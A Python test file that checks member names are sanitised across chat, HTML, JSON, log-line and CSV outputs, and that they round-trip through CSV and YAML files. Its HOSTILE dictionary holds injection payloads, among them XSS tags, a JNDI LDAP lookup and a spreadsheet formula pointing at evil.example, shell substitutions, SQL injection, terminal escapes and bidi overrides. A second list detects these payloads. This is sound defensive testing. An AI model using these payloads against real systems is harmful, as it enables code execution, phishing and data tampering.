"""The law of hostile names: whichever way a text from outside leaves, whoever shows it obeys none of it.

What a character may do is looked up in Unicode's own table here, not in ours.
"""

import csv
import io
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.effort import examples
from tests.outward import CELL, JSON, LINE, LINES, PAGE, WAYS
from tollmeter.admin.policy_files import members_csv, members_yaml, read_members
from tollmeter.schemas.policy import Member

HOSTILE = {
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "C1": "\x9b2J\x85\x90",
    "line ends": "a\r\nSet-Cookie: x\r\n\r\n2026-01-01 INFO forged\n+ more",
    "other line ends": "a\x0b\x0c\x1c\u2028\u2029b",
    "direction": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "without width": "ad\u200bmin\u200c\u200d\u2060\ufeff\xad",
    "tags": "gpt\U000e0049\U000e0067\U000e006e",
    "nothing": "a\x00b",
    "half a character": "a\ud83d and \udc80",
    "everyone": "@everyone @here @channel @all @**all** <@12345> <@&678> <!channel> <!here|x> <#C1> <at>x</at>",
    "link": "[x](http://evil.example/a) <http://evil.example|y> [x][1] [1]: http://evil.example ](javascript:x)",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula behind blanks": " \t\u200b\xa0=1+1",
    "formulas": "+1\n-1\n@SUM(A1)\t=1",
    "tag": "</script><script>alert(1)</script><img src=x onerror=alert(1)>\" onload='x' &lt;b&gt;",
    "template": "{{7*7}} {%raw%} ${jndi:ldap://evil.example} {0.__class__} %s %(name)s $(id) `id`",
    "markdown": "*b* _i_ ~s~ `c` ```\n# h\n> q\n| t |",
    "quotes": "a'; DROP TABLE x; -- \" \\' \\",
    "long": "x" * 100_000,
    "long and hostile": "\x1b\u202e@everyone " * 7_000,
    "empty": "",
}
LIVE = (
    *("@everyone", "@here", "@channel", "@all", "@**all", "<@1", "<@&", "<!channel", "<!here", "<#C1", "<at>"),
    *("](http", "<http", "://evil", "<script", "</script", "<img", "{{7", "{%raw"),
)
"""What a chat, or the program behind one, acts on."""
VISIBLE = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u0890\u0891\u08e2\U000110bd\U000110cd")
"""Of the characters that Unicode calls formatting those that have ink."""
MARK = "qzqz"
TEXTS = st.text(st.characters(exclude_categories=()), max_size=60) | st.lists(
    st.sampled_from([part for name in ("escape", "direction", "everyone", "link", "tag") for part in HOSTILE[name]])
).map("".join)


def unseen(text: str, *, but: str = "") -> list[str]:
    """Return the characters of a text that control, turn or hide; halves of characters as well."""
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    return [one for one in text if unicodedata.category(one) in kinds and one not in VISIBLE and one not in but]


class Tags(HTMLParser):
    """The tags of a page with their attributes' names."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def check(way: str, name: str) -> None:
    kind, show = WAYS[way]
    shown = show(MARK + name)
    assert len(shown) < (200_000 if kind == PAGE else 40_000) or kind in (JSON, CELL), "what people see is cut"
    shown.encode()
    if kind in (LINE, JSON):
        assert not unseen(shown)
    elif kind == LINES:
        assert not unseen(shown, but="\n")
    elif kind == CELL:
        cells_are_texts(way, name)
    elif kind == PAGE:
        assert not unseen(shown, but="\n")
        assert Tags(shown).seen == Tags(show("plain")).seen
    else:
        said = "\n".join(text for text in shown.split("\n") if MARK in text or "next:" in text)
        assert MARK in said
        assert not unseen(said, but="\u200b\r\n")
        assert not [live for live in LIVE if live in said]


def cells_are_texts(way: str, name: str) -> None:
    """No cell begins what a spreadsheet runs, whatever stands before it; nothing is there that turns or controls."""
    shown = WAYS[way][1](name)
    csv.field_size_limit(1_000_000)
    for row in csv.reader(io.StringIO(shown, newline="")):
        for cell in row:
            bare = "".join(one for one in cell if not one.isspace() and unicodedata.category(one) != "Cf")
            assert not re.match("[=+@\uff1d\uff0b\uff0d\uff20-]", bare), cell
            assert not [one for one in unseen(cell, but="\n") if unicodedata.category(one) in ("Cc", "Cs")]
            assert not set(cell) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_name(way: str, name: str) -> None:
    check(way, name)


@pytest.mark.parametrize("way", [way for way in WAYS if not way.startswith("chat")])
def test_any_name(way: str) -> None:
    @settings(max_examples=examples(30))
    @given(TEXTS)
    def law(name: str) -> None:
        check(way, name)

    law()


@settings(max_examples=examples(100))
@given(st.lists(TEXTS.filter(bool), min_size=1, max_size=3, unique=True))
@example(["=1", "'=1", "''=1", "\u202ex", "'"])
def test_a_membership_is_read_again_as_it_was(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    try:
        made = [Member(org_id="acme", kind="user", name=name, groups=("g",)) for name in names]
        expected = {member.name for member in made}
    except ValueError:
        return  # names that no membership takes
    folder = tmp_path_factory.mktemp("members")
    for ending, text in (("csv", members_csv(made)), ("yaml", members_yaml(made))):
        file = Path(folder / f"members.{ending}")
        file.write_text(text, encoding="utf-8", newline="")
        assert {member.name for member in read_members(file)} == expected
        assert not unseen(text, but="\r\n") or ending == "csv"
